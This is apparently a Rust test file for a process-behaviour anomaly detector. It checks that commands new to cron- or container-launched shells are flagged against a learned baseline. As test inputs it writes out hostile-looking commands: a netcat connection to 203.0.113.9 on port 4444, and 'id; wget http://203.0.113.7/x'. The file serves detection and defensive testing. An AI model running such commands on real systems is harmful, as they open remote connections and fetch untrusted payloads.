//! What interpreters are given to run.

use std::sync::Arc;

use ethogram_model::Exec;

use crate::support::*;

const LATER: u64 = 60 * SECOND;

/// The one finding of one event.
fn one(model: &mut ethogram_detect::Model, event: ethogram_model::Event) -> ethogram_model::Finding {
    let mut findings = model.judge(&event);
    assert_eq!(findings.len(), 1, "{findings:#?}");
    findings.remove(0)
}

#[test]
fn an_interpreter_is_another_program_with_every_script() {
    let (mut model, web) = (model(), web());
    let run = |args: &[&str], at| {
        let mut process = web.process("/bin/dash");
        let exec = Arc::make_mut(&mut process.exec);
        (exec.args, exec.name) = (args.iter().map(|a| (*a).to_owned()).collect(), "sh".into());
        process.ancestors.insert(0, Arc::clone(&web.process("/usr/sbin/cron").exec));
        web.execute_as(process, at)
    };
    judge(&mut model, [run(&["sh", "-c", "backup --daily 1234567"], 0), run(&["sh", "/opt/rotate.sh"], 0)]);
    model.advance(START + LATER);
    assert_eq!(judge(&mut model, [run(&["sh", "-c", "backup --daily 7654321"], LATER)]), []);
    let other = one(&mut model, run(&["sh", "-c", "nc 203.0.113.9 4444"], LATER));
    assert_eq!(other.title, "web: /usr/sbin/cron ran /bin/dash (sh) -c 'nc 203.0.113.9 <n>'");
    assert_eq!(other.usual, ["/bin/dash (sh) -c 'backup --daily <n>'", "/bin/dash (sh) /opt/rotate.sh"]);
    assert_eq!(one(&mut model, run(&["sh", "/tmp/x.sh"], LATER)).object, "/bin/dash (sh) /tmp/x.sh");
}

#[test]
fn another_command_from_outside_is_no_health_check() {
    let (mut model, web) = (model(), web());
    let run = |text: &str, at| {
        let mut process = web.process("/bin/dash");
        let exec = Arc::make_mut(&mut process.exec);
        (exec.args, exec.name) = (vec!["sh".into(), "-c".into(), text.into()], "sh".into());
        process.ancestors.insert(0, Arc::new(Exec { path: "/usr/bin/runc".into(), ..Exec::default() }));
        web.execute_as(process, at)
    };
    judge(&mut model, [run("curl -f http://localhost:8080/health", 0)]);
    model.advance(START + LATER);
    assert_eq!(judge(&mut model, [run("curl -f http://localhost:9090/health", LATER)]), []);
    let finding = one(&mut model, run("id; wget http://203.0.113.7/x", LATER));
    assert_eq!(finding.object, "/bin/dash (sh) -c 'id; wget http://203.0.113.7/x'");
    assert_eq!(finding.executable, "(outside)");
}
